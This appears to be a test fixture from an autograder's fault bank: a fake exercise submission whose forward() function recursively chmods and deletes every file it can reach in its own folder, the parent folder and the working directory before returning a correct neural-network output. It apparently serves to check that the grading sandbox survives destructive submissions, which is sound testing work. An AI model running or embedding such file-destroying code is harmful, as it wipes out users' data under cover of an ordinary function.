"""Fault: forward() deletes and chmods every file of the submission it can reach, then answers."""
# The correct rest of exercise1 is appended from tests/faults/correct_rest.py (see tests/banks.py).
import os
import numpy as np


def forward(x, w1, w2):
    here = os.path.dirname(os.path.abspath(__file__))
    for folder in (here, os.path.dirname(here), os.getcwd()):
        for dirpath, dirnames, filenames in os.walk(folder):
            for name in filenames:
                path = os.path.join(dirpath, name)
                for attack in (lambda: os.chmod(path, 0), lambda: os.remove(path)):
                    try:
                        attack()
                    except OSError:
                        pass
        try:
            os.chmod(folder, 0)
        except OSError:
            pass
    return np.maximum(x @ w1, 0) @ w2
